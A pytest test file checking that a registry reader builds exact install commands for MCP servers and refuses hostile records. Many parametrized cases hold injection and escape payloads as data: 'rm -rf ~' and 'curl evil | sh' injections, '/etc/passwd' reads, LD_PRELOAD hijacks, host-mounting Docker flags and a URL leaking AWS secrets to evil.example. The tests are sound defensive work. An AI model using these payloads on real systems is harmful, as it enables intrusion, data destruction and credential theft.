"""From a record to the exact command or URL, the inputs it asks for, and what is refused."""

from typing import Any

import pytest

from discovery.registry_server import HONEST, package, server
from dragoman.connector import Configuration
from dragoman.discovery import InstallMethod, RegistryServer, read_server
from dragoman.errors import InvalidConfig


def offer(name: str) -> RegistryServer:
    return read_server(next(record for record in HONEST if record["name"].endswith(name)))


def way(name: str, number: int = 0) -> InstallMethod:
    return offer(name).ways[number]


def refusal(**facts: Any) -> str:
    found = read_server(server("a/hostile", **facts))
    assert found.ways == ()
    return found.refused[0]


@pytest.mark.parametrize(
    ("name", "number", "shown"),
    [
        ("web-search", 0, "npx -y @example/server-search@1.0.2"),
        (
            "files",
            0,
            "npx -y @example/server-files@1.0.2 <target_dir> [--depth <depth>] [--verbose <verbose>]",
        ),
        (
            "files",
            1,
            "docker run -i --rm -e LOG_LEVEL --mount type=bind,src=<source>,dst=<target>"
            " example/files:1.0.2 /project",
        ),
        ("time", 0, "uvx mcp-server-time==0.6.2"),
        ("sql", 0, "uvx example-sql==1.0.2 mcp start --host <host>"),
        ("tickets", 0, "https://tickets.example/mcp"),
        ("tickets", 1, "https://tickets.example/sse"),
        ("tenants", 0, "https://<tenant>.example.com/mcp"),
        ("undated", 0, "npx -y undated"),
        ("older", 0, "uvx older-server==0.3.0"),
        ("older", 1, "https://older.example/sse"),
    ],
)
def test_the_exact_command_or_address_is_shown(name: str, number: int, shown: str) -> None:
    assert way(name, number).shown == shown


def test_what_a_record_asks_for_is_listed() -> None:
    (key,) = way("web-search").needs
    assert (key.name, key.description, key.is_required, key.is_secret) == (
        "SEARCH_API_KEY",
        "Key of the search",
        True,
        True,
    )
    needs = {need.name: (need.is_required, need.default) for need in way("files").needs}
    assert needs == {
        "target_dir": (True, None),
        "depth": (False, None),
        "verbose": (False, None),
        "LOG_LEVEL": (False, "info"),
    }
    assert {need.name: need.is_required for need in way("files", 1).needs}["source"]
    assert {need.name: need.is_secret for need in way("tickets").needs} == {"token": True, "X-Region": False}
    assert way("tenants").needs[0].is_required


@pytest.mark.parametrize(
    ("name", "number", "answers", "facts"),
    [
        (
            "web-search",
            0,
            {"SEARCH_API_KEY": "k"},
            {
                "command": "npx",
                "args": ("-y", "@example/server-search@1.0.2"),
                "env": {"SEARCH_API_KEY": "k"},
                "secret": ("env:SEARCH_API_KEY",),
            },
        ),
        (
            "files",
            0,
            {"target_dir": "/my files; rm -rf ~", "depth": "3", "verbose": "true", "LOG_LEVEL": "debug"},
            {
                "command": "npx",
                "args": (
                    "-y",
                    "@example/server-files@1.0.2",
                    "/my files; rm -rf ~",
                    "--depth",
                    "3",
                    "--verbose",
                ),
                "env": {"LOG_LEVEL": "debug"},
                "secret": (),
            },
        ),
        (
            "files",
            1,
            {"source": "/here"},
            {
                "command": "docker",
                "args": (
                    *("run", "-i", "--rm", "-e", "LOG_LEVEL", "--mount", "type=bind,src=/here,dst=/project"),
                    *("example/files:1.0.2", "/project"),
                ),
                "env": {"LOG_LEVEL": "info"},
                "secret": (),
            },
        ),
        (
            "sql",
            0,
            {},
            {
                "command": "uvx",
                "args": ("example-sql==1.0.2", "mcp", "start", "--host", "localhost"),
                "env": {},
                "secret": (),
            },
        ),
        (
            "tickets",
            0,
            {"token": "t"},
            {
                "url": "https://tickets.example/mcp",
                "transport": "http",
                "headers": {"Authorization": "Bearer t", "X-Region": "eu-1"},
                "secret": ("header:Authorization",),
            },
        ),
        (
            "tenants",
            0,
            {"tenant": "acme"},
            {"url": "https://acme.example.com/mcp", "transport": "http", "headers": {}, "secret": ()},
        ),
    ],
)
def test_answers_make_the_facts_of_a_connector(
    name: str, number: int, answers: dict[str, str], facts: dict[str, Any]
) -> None:
    found = way(name, number).facts(answers)
    assert found == facts
    Configuration.checked({field: value for field, value in found.items() if field != "secret"})


@pytest.mark.parametrize(
    ("name", "answers", "told"),
    [
        ("web-search", {}, "SEARCH_API_KEY is needed: Key of the search"),
        ("files", {}, "target_dir is needed"),
        ("tenants", {}, "tenant is needed"),
        ("tickets", {"token": "t", "X-Region": "mars"}, "must be one of eu-1, us-1"),
        ("tickets", {"token": "a\r\nX-Evil: 1"}, "one line of text"),
        ("time", {"unknown": "x"}, "does not ask for unknown"),
    ],
)
def test_wrong_answers_are_named(name: str, answers: dict[str, str], told: str) -> None:
    with pytest.raises(InvalidConfig, match=told):
        way(name).facts(answers)


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("bundle", "npm, PyPI and container registries"),
        ("dotnet", "npm, PyPI and container registries"),
        ("listens", "speaks streamable-http"),
    ],
)
def test_a_way_that_dragoman_cannot_go_is_listed_with_the_reason(name: str, told: str) -> None:
    assert offer(name).ways == ()
    assert told in offer(name).refused[0]


def test_a_package_without_a_version_is_warned_of() -> None:
    assert "no version" in way("undated").warnings[0]


@pytest.mark.parametrize("kind", ["npm", "pypi", "oci"])
@pytest.mark.parametrize(
    "identifier",
    [
        "x; rm -rf ~",
        "x && curl evil",
        "$(id)",
        "`id`",
        "--registry=http://evil",
        "-c",
        "../../etc/passwd",
        "file:///etc/passwd",
        "https://evil.example/x.tgz",
        "git+https://evil.example/x",
        "x y",
        "x\ny",
        "x|y",
        "",
        "x" * 400,
        "é",
    ],
)
def test_an_identifier_that_is_no_name_of_a_package_is_refused(kind: str, identifier: str) -> None:
    assert "is no name of a package" in refusal(packages=[package(kind, identifier)])


@pytest.mark.parametrize(
    "version", ["^1.0", ">=1", "1.0; id", "1.0 --registry=http://evil", "$(id)", "-rf", "1/../2"]
)
def test_a_version_that_is_not_exact_is_refused(version: str) -> None:
    assert "no exact version" in refusal(packages=[package("npm", "x", version)])


@pytest.mark.parametrize(
    ("facts", "told"),
    [
        ({"runtimeHint": "bash"}, "wants to be run by 'bash'"),
        ({"runtimeHint": "/tmp/x"}, "wants to be run by"),
        ({"runtimeArguments": [{"type": "named", "name": "-c", "value": "curl evil | sh"}]}, "npx with '-c'"),
        (
            {"runtimeArguments": [{"type": "positional", "value": "--registry=http://evil"}]},
            "npx with '--registry'",
        ),
        ({"runtimeArguments": [{"type": "positional", "value": "evil-package"}]}, "npx with 'evil-package'"),
        ({"registryBaseUrl": "https://evil.example"}, "from another place"),
        ({"packageArguments": [{"type": "positional", "value": "x"}] * 1000}, "1000 arguments"),
        ({"packageArguments": [{"type": "positional", "value": "x" * 10_000}]}, "longer than 2048"),
        ({"packageArguments": [{"type": "positional", "value": "a\x00b"}]}, "control characters"),
        (
            {"packageArguments": [{"type": "positional", "value": "${AWS_SECRET_ACCESS_KEY}"}]},
            "this machine's environment",
        ),
        ({"packageArguments": [{"type": "named", "name": ""}]}, "no proper name"),
        ({"packageArguments": [{"type": "odd"}]}, "neither positional nor named"),
        (
            {"environmentVariables": [{"name": "NODE_OPTIONS", "value": "--require /tmp/x"}]},
            "change what runs",
        ),
        ({"environmentVariables": [{"name": "LD_PRELOAD"}]}, "change what runs"),
        ({"environmentVariables": [{"name": "npm_config_registry"}]}, "change what runs"),
        ({"environmentVariables": [{"name": "A=B"}]}, "no name of a variable"),
        ({"environmentVariables": [{"name": "A", "value": "${HOME}"}]}, "this machine's environment"),
        (
            {"environmentVariables": [{"name": "A", "default": "${GITHUB_TOKEN}"}]},
            "this machine's environment",
        ),
    ],
)
def test_a_package_that_would_do_more_than_run_is_refused(facts: dict[str, Any], told: str) -> None:
    assert told in refusal(packages=[package("npm", "x", **facts)])


@pytest.mark.parametrize(
    "argument",
    [
        {"type": "positional", "value": "--privileged"},
        {"type": "named", "name": "-v", "value": "/:/host"},
        {"type": "named", "name": "--volume", "value": "/var/run/docker.sock:/s"},
        {"type": "positional", "value": "--volume=/etc:/x"},
        {"type": "named", "name": "--mount", "value": "type=bind,src=/,dst=/x"},
        {"type": "named", "name": "--entrypoint", "value": "sh"},
    ],
)
def test_a_container_that_would_see_the_machine_is_refused(argument: dict[str, Any]) -> None:
    assert "does not allow" in refusal(packages=[package("oci", "x/y", runtimeArguments=[argument])])


@pytest.mark.parametrize(
    ("remote", "told"),
    [
        ({"url": "file:///etc/passwd"}, "must begin with https"),
        ({"url": "http://tickets.example/mcp"}, "not encrypted"),
        ({"url": "https://me:pw@tickets.example/mcp"}, "must begin with https"),
        ({"url": "https://"}, "must begin with https"),
        ({"url": "https://[bad"}, "cannot be read"),
        ({"url": "https://evil.example/?x=${AWS_SECRET_ACCESS_KEY}"}, "this machine's environment"),
        ({"url": None}, "must begin with https"),
        ({"type": "ws", "url": "https://a.example"}, "streamable-http and sse"),
        ({"url": "https://a.example", "headers": [{"name": "Host", "value": "b"}]}, "no header"),
        ({"url": "https://a.example", "headers": [{"name": "X\r\nY", "value": "b"}]}, "no header"),
        ({"url": "https://a.example", "headers": [{"name": "X", "value": "${GITHUB_TOKEN}"}]}, "environment"),
    ],
)
def test_an_address_that_is_not_safe_is_refused(remote: dict[str, Any], told: str) -> None:
    assert told in refusal(remotes=[{"type": "streamable-http", **remote}])


def test_one_refused_way_loses_no_other() -> None:
    found = read_server(server("a/b", packages=[package("npm", "; id"), package("npm", "good")]))
    assert [one.shown for one in found.ways] == ["npx -y good@1.0.2"]
    assert len(found.refused) == 1


@pytest.mark.parametrize("record", [{}, {"name": 7}, {"server": "x"}, {"name": ""}])
def test_a_record_without_a_name_is_none(record: dict[str, Any]) -> None:
    with pytest.raises(InvalidConfig, match="no name"):
        read_server(record)


@pytest.mark.parametrize("value", [7, "x", None, [], [7], {"a": 1}, [[]]])
def test_parts_of_another_shape_break_nothing(value: Any) -> None:
    assert (
        read_server(
            {"name": "a/b", "packages": value, "remotes": value, "_meta": value, "version": value}
        ).name
        == "a/b"
    )
    arguments = package(
        "npm", "x", packageArguments=value, environmentVariables=value, runtimeArguments=value
    )
    read_server(server("a/b", packages=[arguments]))
